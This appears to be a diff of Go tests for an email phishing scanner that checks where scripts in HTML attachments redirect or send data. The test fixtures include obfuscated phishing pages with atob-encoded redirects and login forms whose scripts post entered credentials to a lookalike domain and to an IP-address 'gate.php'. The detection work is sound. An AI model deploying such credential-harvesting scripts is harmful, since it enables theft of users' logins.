@@ -3,6 +3,7 @@ package heuristic
 import (
 	"context"
 	"encoding/base64"
+	"slices"
 	"strings"
 	"testing"
 
@@ -166,8 +167,16 @@ func TestDecodeJS(t *testing.T) {
 			t.Errorf("decodeJS(%s) = %s, want %s", c.in, got, c.want)
 		}
 	}
-	if got := writtenMarkup(`x = "a < b"; document.write("<p>" + y + "</p>")`); got != "<p></p>" {
-		t.Errorf("writtenMarkup = %q", got)
+	markup, web := scriptStrings(`x = "a < b"; document.write("<p>" + y + "</p>"); location = "https:\/\/a.example/x?u=" + u; `+
+		`fetch('http://b.example/p'); z = "see https://c.example/"; w = "<a href='https://d.example/'>"; v = 'HTTPS://e.example'`, 10)
+	if markup != "<p></p><a href='https://d.example/'>" {
+		t.Errorf("scriptStrings markup = %q", markup)
+	}
+	if want := []string{"https://a.example/x?u=", "http://b.example/p", "HTTPS://e.example"}; strings.Join(web, " ") != strings.Join(want, " ") {
+		t.Errorf("scriptStrings web addresses = %q, want %q", web, want)
+	}
+	if _, web := scriptStrings(`a = "https://a.example/"; b = "https://b.example/"`, 1); len(web) != 1 {
+		t.Errorf("scriptStrings kept %d web addresses, want 1", len(web))
 	}
 }
 
@@ -250,7 +259,83 @@ func TestWrittenPageURLsBounded(t *testing.T) {
 	if len(u) != urls.MaxPerPart {
 		t.Errorf("%d URLs, want %d", len(u), urls.MaxPerPart)
 	}
-	if w := e.written[m.Parts[1]]; w != [2]int{1, urls.MaxPerPart} {
-		t.Errorf("written URLs at %v, want [1 %d]", w, urls.MaxPerPart)
+	if w := e.written[m.Parts[1]]; w != [3]int{1, urls.MaxPerPart, urls.MaxPerPart} {
+		t.Errorf("written URLs at %v, want [1 %d %d]", w, urls.MaxPerPart, urls.MaxPerPart)
+	}
+}
+
+// TestScriptURLs: the web addresses an HTML attachment's decoded script
+// goes to or sends to (a location set from atob or unescape, a fetch, a
+// window.open, $.post) go through the URL checks as links of the part,
+// and say so; an honest redirect gets no URL finding, and a body's
+// scripts are not read.
+func TestScriptURLs(t *testing.T) {
+	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+	login := `<form><input type=email name=u><input type=password name=p><button>Sign in</button></form>`
+	for _, c := range []struct {
+		name, id string
+		m        *message.Message
+		part     string // "" when the check must not fire
+	}{
+		{"atob location to blocklisted", "blocklisted-url", pageAttach("Fax.html", `<p>Loading...</p><script>window.location.href = atob('`+b64("https://www.evil.example/fax/?id=1")+`');</script>`), "2"},
+		{"unescape replace to blocklisted", "blocklisted-url", pageAttach("a.htm", `<script>window.location.replace(unescape('`+percentAll("https://www.evil.example/r")+`'))</script>`), "2"},
+		{"fetch to lookalike", "lookalike-domain", pageAttach("Login.html", login+`<script>document.forms[0].onsubmit = function(ev){ ev.preventDefault(); fetch(atob('`+b64("https://secure-paypal-login.com/api/collect")+`'), {method: 'POST', body: new FormData(this)}); };</script>`), "2"},
+		{"$.post pieces to ip", "ip-url", pageAttach("a.html", login+`<script>$("form").submit(function(){ $.post('http://' + '198.51.100.' + '7/gate.php', $(this).serialize()); return false; });</script>`), "2"},
+		{"window.open char codes to DNSBL-listed", "dnsbl-url", pageAttach("a.html", `<script>window.open(String.fromCharCode(`+charCodes("https://go.listed.example/x")+`), '_self')</script>`), "2"},
+		{"userinfo in written script", "userinfo-url", pageAttach("a.html", `<script>document.write(atob('`+b64(`<script>location = unescape("`+percentAll("https://www.microsoft.com@198.51.100.7/login")+`")</`+`script>`)+`'))</script>`), "2"},
+		{"honest redirect", "lookalike-domain", pageAttach("a.html", `<script>location.href = atob('`+b64("https://www.paypal.com/signin")+`')</script>`), ""},
+		{"honest redirect, no ip", "ip-url", pageAttach("a.html", `<script>location.href = atob('`+b64("https://www.paypal.com/signin")+`')</script>`), ""},
+		{"body is not run", "blocklisted-url", body(`<script>window.location.href = atob('` + b64("https://www.evil.example/fax/") + `');</script>`), ""},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			f := find(scan(t, newScanner(t), c.m), c.id)
+			switch {
+			case c.part == "" && f != nil:
+				t.Errorf("unexpected %s: %s", c.id, f.Detail)
+			case c.part == "":
+			case f == nil:
+				t.Errorf("no %s finding", c.id)
+			case f.Part != c.part || !strings.HasSuffix(f.Detail, "(in the page's script)"):
+				t.Errorf("%s on part %q: %q, want part %q, in the page's script", c.id, f.Part, f.Detail, c.part)
+			}
+			if c.part != "" && !slices.ContainsFunc(AllURLs(c.m), func(u urls.URL) bool { return u.Source == urls.SourceScript }) {
+				t.Errorf("AllURLs (kensa scan's list) has not the script's address")
+			}
+		})
+	}
+}
+
+// TestScriptURLsHonestSender: a page that sends the reader to the sender's
+// own site has no URL finding at all.
+func TestScriptURLsHonestSender(t *testing.T) {
+	m := pageAttach("Statement.html", `<p>Opening your statement...</p><script>setTimeout(function(){ location.replace(atob('`+
+		base64.StdEncoding.EncodeToString([]byte("https://portal.example.com/statement/2027-01"))+`')) }, 500)</script>`)
+	m.From = "billing@example.com"
+	var urlFindings []string
+	for _, f := range scan(t, newScanner(t), m) {
+		if f.ID != "html-redirect-attachment" {
+			urlFindings = append(urlFindings, f.ID+": "+f.Detail)
+		}
+	}
+	if len(urlFindings) > 0 {
+		t.Errorf("honest redirect has findings %q", urlFindings)
+	}
+	if u := AllURLs(m); len(u) != 1 || u[0].Source != urls.SourceScript || u[0].Host != "portal.example.com" {
+		t.Errorf("AllURLs = %+v, want the script's address", u)
+	}
+}
+
+// TestScriptURLsDedup: an address written plainly in the page is the
+// page's own, not added again from its script.
+func TestScriptURLsDedup(t *testing.T) {
+	m := pageAttach("a.html", `<script>location.href = "https://www.evil.example/x";</script>`)
+	e := newEnv(context.Background(), m, Options{})
+	defer e.release()
+	if u := e.partURLs(m.Parts[1]); len(u) != 1 || u[0].Source != urls.SourceText {
+		t.Errorf("partURLs = %+v, want the one text URL", u)
+	}
+	f := find(scan(t, newScanner(t), m), "blocklisted-url")
+	if f == nil || strings.Contains(f.Detail, "script") {
+		t.Errorf("blocklisted-url = %+v, want the page's own link", f)
 	}
 }
